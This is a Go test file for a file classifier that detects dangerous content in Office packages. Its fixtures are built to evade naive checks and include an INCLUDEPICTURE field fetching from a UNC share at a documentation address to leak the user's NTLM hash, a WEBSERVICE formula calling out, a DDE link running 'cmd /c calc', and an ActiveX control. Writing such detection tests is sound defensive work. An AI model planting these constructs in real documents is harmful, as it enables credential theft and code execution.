@@ -1,0 +1,151 @@
+package filetype
+
+import "testing"
+
+const (
+	ctWordMain  = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+	ctSheetMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+	nsWord      = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+	nsSheet     = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
+)
+
+// contentTypes is a [Content_Types].xml declaring decls (Default and
+// Override elements).
+func contentTypes(decls string) zent {
+	return deflate("[Content_Types].xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`+decls+`</Types>`))
+}
+
+// override is an Override element typing part as ct.
+func override(part, ct string) string {
+	return `<Override PartName="` + part + `" ContentType="` + ct + `"/>`
+}
+
+// rootRels is a _rels/.rels holding rels (Relationship elements).
+func rootRels(rels string) zent {
+	return deflate("_rels/.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
+}
+
+// mainRel is the officeDocument relationship to target.
+func mainRel(target string) string {
+	return `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` + target + `"/>`
+}
+
+// wordPart is a Word document part named name, its body holding body.
+func wordPart(name, body string) zent {
+	return deflate(name, []byte(`<?xml version="1.0"?><w:document `+nsWord+`><w:body>`+body+`</w:body></w:document>`))
+}
+
+// includePicture is a paragraph with a simple field fetching a picture
+// from a share: Word hands the share the user's NTLM hash.
+const includePicture = `<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\192.0.2.1\s\a.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
+
+// TestOOXMLPartsByContentType: an OOXML package is read as Office reads
+// it, by its main part (the officeDocument relationship in _rels/.rels)
+// and each part's type in [Content_Types].xml, never by folder names: a
+// Word field or a workbook formula that fetches from a share is found in
+// a part of any name, and a package whose part types or main part
+// cannot be told is not inspected. Before, a .docx whose main part was
+// x/main.xml sniffed as a generic OOXML package that a rule keeping
+// .docx kept, with no finding, and Word fetched the picture.
+func TestOOXMLPartsByContentType(t *testing.T) {
+	const probeFinding = "office: external reference includepicture field in x/main.xml"
+	probe := zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)),
+		rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", includePicture))
+	cases := []classifyCase{
+		{name: "renamed main part", data: probe, filename: "a.docx",
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{probeFinding}},
+		{name: "decoy word/document.xml, the main part elsewhere", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/x/main.xml", ctWordMain)),
+				rootRels(mainRel("/x/main.xml")), wordPart("word/document.xml", `<w:p><w:r><w:t>議事録</w:t></w:r></w:p>`), wordPart("x/main.xml", includePicture)),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{probeFinding}},
+		{name: "main part typed by Default Extension=xml", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="XML" ContentType="`+ctWordMain+`"/>`),
+				rootRels(mainRel("./doc/body.xml")), wordPart("Doc/Body.xml", includePicture)),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in Doc/Body.xml"}},
+		{name: "header typed as Word's under another extension", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)+
+				override("/x/h.dat", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
+				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", ""), wordPart("x/h.dat", includePicture)),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in x/h.dat"}},
+		{name: "UTF-16 header under another name", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)+
+				override("/x/h.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
+				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", ""),
+				deflate("x/h.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><w:hdr `+nsWord+`>`+includePicture+`</w:hdr>`))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in x/h.xml"}},
+		// Real documents' parts that are no Word XML: custom XML in
+		// UTF-16, an embedded Word file (a package, inspected as one).
+		{name: "clean, a UTF-16 custom XML part and an embedded Word file", filename: "a.pptx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>`+
+				override("/slides/p.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
+				rootRels(mainRel("slides/p.xml")), deflate("slides/p.xml", []byte(`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`)),
+				deflate("customXml/item1.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>`)),
+				deflate("slides/embeddings/a.docx", docx(t))),
+			class: ClassOffice, sniffed: mimePptx, clean: true},
+		{name: "clean Word document, UTF-16 custom XML, main part renamed", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)),
+				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", `<w:p><w:r><w:t>議事録</w:t></w:r></w:p>`),
+				deflate("customXml/item1.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>`))),
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+		{name: "macro-enabled main part", filename: "a.docm",
+			data: zipFile(t, contentTypes(`<Default Extension="x&#109;l" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>`),
+				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", "")),
+			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
+		{name: "workbook with a renamed sheet holding WEBSERVICE", filename: "a.xlsx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/book/wb.xml", ctSheetMain)+
+				override("/book/s/data.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")),
+				rootRels(mainRel("book/wb.xml")),
+				deflate("book/wb.xml", []byte(`<workbook `+nsSheet+`><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`)),
+				deflate("book/s/data.xml", []byte(`<worksheet `+nsSheet+`><sheetData>`+cellFormula(`_xlfn.WEBSERVICE("http://192.0.2.1/q")`)+`</sheetData></worksheet>`))),
+			class: ClassOffice, sniffed: mimeXlsx, findings: []string{RunningFormula + " (WEBSERVICE) in book/s/data.xml"}},
+		{name: "clean workbook outside xl/", filename: "a.xlsx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/book/wb.xml", ctSheetMain)),
+				rootRels(mainRel("book/wb.xml")),
+				deflate("book/wb.xml", []byte(`<workbook `+nsSheet+`><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`))),
+			class: ClassOffice, sniffed: mimeXlsx, clean: true},
+		{name: "external link to another program outside xl/", filename: "a.xlsx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/xl/workbook.xml", ctSheetMain)+override("/x/link.xml", ctExternalLink)),
+				rootRels(mainRel("xl/workbook.xml")), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`)),
+				deflate("x/link.xml", []byte(`<externalLink `+nsSheet+`><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))),
+			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external reference ddelink in x/link.xml"}},
+		{name: "ActiveX control outside activeX/", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/word/c/c1.xml", "application/vnd.ms-office.activeX+xml")),
+				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""),
+				deflate("word/c/c1.xml", []byte(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: embedded or external content word/c/c1.xml"}},
+		{name: "missing main part", filename: "a.docx",
+			data:  zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)), rootRels(mainRel("word/missing.xml")), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels names word/missing.xml, which is not in the package"}},
+		{name: "no officeDocument relationship", filename: "a.docx",
+			data:  zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)), rootRels(""), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels: 0 officeDocument relationships"}},
+		{name: "main part of no Office type", filename: "a.docx",
+			data:  zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": word/document.xml is application/xml"}},
+		{name: "two main parts", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="`+ctWordMain+`"/>`),
+				rootRels(mainRel("word/document.xml")+`<relationship Id="rId2" type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officedocument" Target="x/main.xml"/>`),
+				wordPart("word/document.xml", ""), wordPart("x/main.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels: 2 officeDocument relationships"}},
+		{name: "content types with a DTD", filename: "a.docx",
+			data: zipFile(t, deflate("[Content_Types].xml", []byte(`<!DOCTYPE Types [<!ENTITY w "`+ctWordMain+`">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x/main.xml" ContentType="&w;"/></Types>`)),
+				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", includePicture)),
+			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: DTD"}},
+		{name: "content types missing", filename: "a.docx",
+			data:  zipFile(t, rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: missing"}},
+		{name: "content types in another namespace", filename: "a.docx",
+			data: zipFile(t, deflate("[Content_Types].xml", []byte(`<Types xmlns="urn:x"><Override PartName="/word/document.xml" ContentType="`+ctWordMain+`"/></Types>`)),
+				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: element Types in another namespace"}},
+		{name: "a part typed twice", filename: "a.docx",
+			data: zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)+override("/WORD/document.xml", "application/xml")),
+				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
+			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: Override word/document.xml twice"}},
+		{name: "no _rels/.rels, main parts of two kinds", filename: "a.docx",
+			data: zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)+override("/xl/workbook.xml", ctSheetMain)),
+				wordPart("word/document.xml", ""), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`))),
+			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": no _rels/.rels, and 2 kinds of main part"}},
+	}
+	runClassify(t, cases)
+}
